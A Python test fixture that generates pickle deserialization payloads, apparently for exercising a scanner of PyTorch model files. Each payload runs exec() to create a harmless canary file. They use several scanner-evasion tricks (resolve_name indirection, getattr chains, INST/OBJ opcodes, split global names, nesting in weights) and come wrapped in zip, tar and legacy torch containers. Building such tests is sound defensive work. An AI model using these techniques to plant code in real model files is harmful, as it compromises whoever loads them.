"""Pickles that would run code, each in several wrappings; `canary` is the file they would make."""

import io
import pickle
import struct
import tarfile
import zipfile
from pathlib import Path


class Reduced:
    """Asks the unpickler to call `call` with `arguments`."""

    def __init__(self, call: object, *arguments: object) -> None:
        self.told = (call, arguments)

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.told  # type: ignore[return-value]


def command(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def resolved(name: str, *arguments: bytes) -> bytes:
    """Call what pkgutil finds under a name: the name of the function stands nowhere as such."""
    found = b"cpkgutil\nresolve_name\n" + text(name) + b"\x85R"
    return found + b"(" + b"".join(arguments) + b"tR"


def payloads(canary: Path) -> dict[str, bytes]:
    """Pickled streams by what they try; every one makes the canary where `pickle` reads it."""
    said = text(command(canary))
    wrapped = {"state_dict": {"a.weight": Reduced(exec, command(canary))}}
    dumped = {
        "exec": pickle.dumps(Reduced(exec, command(canary)), 2),
        "protocol 4": pickle.dumps(Reduced(exec, command(canary)), 4),
        "protocol 0": pickle.dumps(Reduced(exec, command(canary)), 0),
        "nested in weights": pickle.dumps(wrapped, 2),
        "argument of a call": pickle.dumps(Reduced(str, Reduced(exec, command(canary))), 2),
        "map and tuple": pickle.dumps(Reduced(tuple, Reduced(map, exec, [command(canary)])), 2),
    }
    written = {
        "resolve_name": b"\x80\x02" + resolved("builtins:exec", said) + b".",
        "getattr chain": (
            b"\x80\x02cbuiltins\ngetattr\ncbuiltins\n__import__\n" + text("builtins") + b"\x85R"
            + text("exec") + b"\x86R" + said + b"\x85R."
        ),
        "INST": b"(S" + repr(command(canary)).encode() + b"\nibuiltins\nexec\n.",
        "OBJ": b"\x80\x02(cbuiltins\nexec\n" + said + b"o.",
        "name in pieces": (
            b"\x80\x04\x8c\x08builtins\x8c\x04exec\x93" + said + b"\x85R."
        ),
        "thrown away": b"\x80\x02cbuiltins\nexec\n" + said + b"\x85R0}.",
    }  # fmt: skip
    return dumped | written


def as_zip(stream: bytes, method: int = zipfile.ZIP_STORED) -> bytes:
    """In the archive that torch writes today."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("model/data.pkl", stream)
        archive.writestr("model/version", "3\n")
    return out.getvalue()


def as_stream(stream: bytes) -> bytes:
    """In the older stream: magic number, protocol and machine come first."""
    heads = (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})
    return b"".join(pickle.dumps(head, 2) for head in heads) + stream + pickle.dumps([], 2)


def as_tar(stream: bytes) -> bytes:
    """In the archive of the first torch."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name in ("storages", "tensors", "pickle"):
            info = tarfile.TarInfo(name)
            info.size = len(stream)
            archive.addfile(info, io.BytesIO(stream))
    return out.getvalue()


def wrappings(stream: bytes) -> dict[str, bytes]:
    """One stream in every container."""
    return {
        "bare": stream,
        "zip": as_zip(stream),
        "packed zip": as_zip(stream, zipfile.ZIP_DEFLATED),
        "zip in zip": as_zip(as_zip(stream)),
        "older stream": as_stream(stream),
        "in place of the magic number": stream + pickle.dumps(1001, 2),
        "tar": as_tar(stream),
    }
